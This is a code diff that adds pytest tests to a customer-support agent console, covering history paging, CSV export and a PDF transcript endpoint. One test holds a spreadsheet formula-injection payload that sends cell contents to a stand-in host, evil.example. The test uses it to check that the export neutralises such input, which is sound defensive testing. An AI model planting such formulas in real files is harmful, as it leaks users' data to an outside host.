@@ -232,3 +232,35 @@ def test_canned_replies_are_filled_from_the_panel_and_searchable(workspace):
     assert client.get("/agent/api/tickets/999999999/canned-replies").status_code == 404
     page = client.get(f"/agent/tickets/{workspace['ids']['waiting']}").text
     assert 'id="canned-replies"' in page and "/agent/static/canned.js" in page
+
+
+def test_the_history_pages_through_every_ticket_and_counts_up_to_a_limit(workspace, monkeypatch):
+    import console.history
+
+    monkeypatch.setattr(console.history, "PER_PAGE", 1)
+    monkeypatch.setattr(console.history, "COUNT_UP_TO", 1)
+    client = signed_in(workspace, "agent")
+    first = client.get("/agent/history", params={"agent": workspace["ids"]["agent"]}).text
+    assert "共 1 条" in first and "page=2" not in first  # one ticket resolved by this agent
+    everything = client.get("/agent/history").text
+    assert "超过 1 条" in everything and "page=2" in everything  # more than counted: still a next page
+    second = client.get("/agent/history", params={"page": "2"}).text
+    assert "第 2 页" in second and "page=1" in second  # and a way back
+
+
+def test_a_customers_words_that_look_like_a_formula_stay_text_in_the_csv(workspace):
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    with session_scope(workspace["url"]) as session:
+        keep_transcript(session, workspace["ids"]["resolved"], [
+            {"at": now_in_china().isoformat(timespec="seconds"), "sender": "customer", "agent": "", "text": attack,
+             "intent": "", "confidence": None, "emotion": None}], now_in_china())
+    client = signed_in(workspace, "agent")
+    response = client.get("/agent/history.csv", params={"agent": workspace["ids"]["agent"]})
+    [row] = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
+    assert row[-1] == "'" + attack  # Excel shows it, never runs it
+
+
+def test_an_open_tickets_pdf_needs_rasa_and_says_so_politely_when_it_is_away(workspace):
+    client = signed_in(workspace, "agent")
+    response = client.get(f"/agent/tickets/{workspace['ids']['waiting']}/transcript.pdf")
+    assert response.status_code == 503 and "Traceback" not in response.text
